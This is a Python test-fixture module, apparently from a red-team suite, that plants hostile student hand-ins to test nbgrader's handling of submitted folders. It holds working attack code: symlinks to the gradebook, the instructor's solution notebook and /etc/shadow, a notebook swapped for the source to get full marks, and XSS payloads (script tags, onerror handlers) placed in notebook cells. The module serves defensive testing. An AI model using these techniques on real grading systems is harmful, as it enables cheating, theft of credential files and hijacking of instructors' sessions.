"""Hostile hand-ins that attack nbgrader's handling of a submitted folder, not the kernel or the sandbox.

Each function plants one attack in ``submitted/<student>/<assignment>/`` of a course folder, as a student who
can write the exchange's inbound folder (a shared, world-writable folder on a hub) or hand in an archive that
keeps links would.  ``nbgrader collect`` copies the exchange with ``shutil.copytree``, which follows links as
the instructor, so a link a student plants arrives in ``submitted/`` either as the link or as the instructor's
file it points at.  What each must earn is nothing, and nothing of the course may come back to the student.

- :func:`links_beside` - files beside the notebook that are links to the gradebook, the source notebook
  (hidden tests and solutions) and a root-only file: nbgrader's autograde and generate_feedback copy them
  with ``shutil.copy``, following the links, into ``autograded/`` and ``feedback/``.
- :func:`notebook_is_the_source` - the notebook is a link to the instructor's source notebook: it is graded
  as the instructor's solution, full marks, and the feedback shows the solution.
- :func:`notebook_copied_from_the_source` - the same as ``collect`` delivers it: a plain copy of the source.
- :func:`script_in_outputs` - a markdown cell and an answer cell's output carry ``<script>`` and an
  ``onerror`` handler: the formgrader page the instructor opens to grade renders them in the instructor's
  Jupyter session, whose API can then change any student's grade or run code as the instructor.
"""

from __future__ import annotations

import os
from pathlib import Path

import nbformat

#: Text a script planted by :func:`script_in_outputs` sets, to be looked for in a rendered page.
SCRIPT_MARK = "ABTEACH_REDTEAM_XSS"


def links_beside(notebook: Path, course: Path, assignment: str) -> list[str]:
    """Plant links beside ``notebook``; the names planted."""
    targets = {"notes.txt": course / "source" / assignment / f"{assignment}.ipynb",
               "grades.txt": course / "gradebook.db",
               "shadow.txt": Path("/etc/shadow")}
    for name, target in targets.items():
        os.symlink(target, notebook.parent / name)
    return sorted(targets)


def notebook_is_the_source(notebook: Path, course: Path, assignment: str) -> None:
    """Replace ``notebook`` by a link to the instructor's source notebook."""
    notebook.unlink()
    os.symlink(course / "source" / assignment / f"{assignment}.ipynb", notebook)


def notebook_copied_from_the_source(notebook: Path, course: Path, assignment: str) -> None:
    """Replace ``notebook`` by the instructor's source notebook, as ``collect`` copies a link."""
    notebook.write_bytes((course / "source" / assignment / f"{assignment}.ipynb").read_bytes())


def script_in_outputs(nb: nbformat.NotebookNode) -> str:
    """Add a markdown cell with a script, and the code that displays one; the code, for the answer cell."""
    nb.cells.insert(0, nbformat.v4.new_markdown_cell(
        f'<img src=x onerror="window.{SCRIPT_MARK}=1"><script>window.{SCRIPT_MARK}=2</script>'))
    return ("\nfrom IPython.display import HTML, display\n"
            f"display(HTML('<script>window.{SCRIPT_MARK}=3</script><img src=x onerror=\"window.{SCRIPT_MARK}=4\">'))\n")
